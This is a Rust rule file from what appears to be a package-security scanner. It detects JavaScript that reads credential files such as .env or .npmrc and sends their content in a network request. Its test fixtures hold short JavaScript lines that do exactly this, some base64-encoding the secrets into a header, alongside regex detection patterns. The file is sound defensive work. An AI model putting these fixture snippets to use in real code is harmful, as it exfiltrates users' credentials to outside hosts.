//! Rule `credential-file-send`.

use crate::package::Package;
use crate::rules::{Emitter, code_files, is_doc_path};

crate::declare_rule! {
    /// A credential file's content (`.env`, `.npmrc`, `.git-credentials`, `.netrc`, `.pypirc`,
    /// cloud credentials), read with `fs.readFile*` or `dotenv.config()/parse()`, flows into a
    /// request's headers or body in the same small file: the variable holding it (or one
    /// assigned from it) is named inside `headers:`/`body:`/`data:`, `setHeader(…)` or a
    /// request's `.write(…)`/`.send(…)`. Registry clients put one token in an `Authorization`
    /// header, which stays quiet: only what is built from the whole file counts.
    id: "credential-file-send",
    category: Data,
    severity: High,
    capability: Some(crate::model::Capability::FilesystemRead),
    title: "sends the content of a credential file",
    incident: "dotenv look-alikes (2023-2025) send the parsed .env in a request header; eslint-scope 3.7.2 (2018) sent ~/.npmrc",
    case_file: "index.js",
    flag: ["const p = path.resolve(process.cwd(), '.env'); const parsed = parse(fs.readFileSync(p, 'utf8')); https.request({ host: h, headers: { 'x-s': Buffer.from(JSON.stringify(parsed)).toString('base64') } }).end()",
           "const env = require('dotenv').config().parsed; const tag = Buffer.from(JSON.stringify(env)).toString('base64'); fetch(u, { headers: { 'x-session': tag } })",
           "const fs = require('fs'); const raw = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const req = https.request(opts); req.write(raw); req.end()",
           "const axios = require('axios'); const c = await fs.promises.readFile('.env', 'utf8');\nawait axios.post(u, { host: os.hostname(), cfg: c })"],
    pass: ["const env = require('dotenv').config().parsed; console.log(Object.keys(env).length); fetch(u, { headers: { accept: 'application/json' } })",
           "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const token = rc.match(/_authToken=(.+)/)[1]; fetch(reg, { headers: { authorization: `Bearer ${token}` } })",
           "const raw = fs.readFileSync('.env', 'utf8'); fs.writeFileSync('.env.example', raw.replace(/=.*/g, '='))",
           "const p = path.join(dir, 'data.txt'); const body = parse(fs.readFileSync(p, 'utf8')); fetch(u, { method: 'POST', body })"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let read = crate::regex!(
        r#"(?:(?:const|let|var)\s+)?([\w$]+)\s*=\s*(?:await\s+)?(?:[\w$]+\(\s*)?(?:(?:[\w$]+\.)*readFile(?:Sync)?\(([^;\n]{0,160})|(?:require\(\s*['"]dotenv['"]\s*\)|dotenv)\.(?:config|parse)\(([^;\n]{0,120}))"#
    );
    let cred = crate::regex!(
        r#"['"`/\\](?:\.env(?:\.local|\.production)?|\.npmrc|\.git-credentials|\.netrc|\.pypirc|credentials)['"`]"#
    );
    let sink = crate::regex!(
        r#"\b(?:headers|body|data|json|form)\s*:\s*|\b(?:setHeader|write|send|end|post|put)\s*\("#
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) || f.minified || f.text.len() > 100_000 {
            continue;
        }
        let text = &f.text;
        if !crate::mentions!(text, ["readFile", "dotenv"]) || !super::has_network(f) {
            continue;
        }
        // Variables holding a credential file's content.
        let mut held: Vec<String> = Vec::new();
        for c in read.captures_iter(text) {
            let src = c.get(2).map(|m| m.as_str());
            // dotenv reads `.env` itself; a readFile must name the credential file, directly or
            // through the variable holding its path (`const p = path.resolve(cwd, '.env')`).
            if src.is_none_or(|s| cred.is_match(s) || path_var_names_cred(text, s, cred)) {
                held.push(c[1].to_string());
            }
        }
        if held.is_empty() {
            continue;
        }
        // One step of propagation: `const tag = Buffer.from(JSON.stringify(env))…`, but not a
        // single value picked out of it (`rc.match(…)[1]`, `env.TOKEN`).
        let assign = crate::regex!(r"(?:const|let|var)\s+([\w$]+)\s*=\s*([^;\n]{1,200})");
        for _ in 0..2 {
            for c in assign.captures_iter(text) {
                let (name, rhs) = (&c[1], &c[2]);
                if held.iter().any(|h| h == name) {
                    continue;
                }
                if held.iter().any(|h| names_whole(rhs, h)) {
                    held.push(name.to_string());
                }
            }
        }
        let found = sink.find_iter(text).find_map(|m| {
            let window = text.get(m.end()..).unwrap_or("");
            let end = window
                .char_indices()
                .find(|(i, ch)| *ch == ';' || *i >= 240)
                .map_or(window.len(), |(i, _)| i);
            let w = &window[..end];
            held.iter()
                .find(|h| names_whole(w, h))
                .map(|h| (m.start(), h.clone()))
        });
        if let Some((off, v)) = found {
            out.hit(
                pkg,
                f,
                off as u32,
                format!("sends `{v}`, the content of a credential file, in a request"),
            );
        }
    }
}

/// Whether `text` names the variable `v` as a whole value: not followed by a member access or
/// a call that picks one part out of it (`v.TOKEN`, `v.match(…)`, `v[1]`).
fn names_whole(text: &str, v: &str) -> bool {
    let b = text.as_bytes();
    let mut from = 0;
    while let Some(i) = text[from..].find(v) {
        let s = from + i;
        let e = s + v.len();
        let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'$';
        let before_ok = s == 0 || !(word(b[s - 1]) || b[s - 1] == b'.');
        let after = text[e..].trim_start();
        let after_ok = !((e < b.len() && word(b[e])) || after.starts_with(['.', '[', ':']));
        // `cfg: c` (a value) is fine; `c: x` (a key) is not.
        if before_ok && after_ok {
            return true;
        }
        from = e;
    }
    false
}

/// Whether the read's first argument is a variable assigned a credential file's path.
fn path_var_names_cred(text: &str, args: &str, cred: &regex::Regex) -> bool {
    let v = args.split([',', ')']).next().unwrap_or("").trim();
    if v.is_empty()
        || !v
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
    {
        return false;
    }
    let decl = crate::regex!(r"(?:const|let|var)\s+([\w$]+)\s*=\s*([^;\n]{1,200})");
    decl.captures_iter(text)
        .any(|c| &c[1] == v && cred.is_match(&c[2]))
}
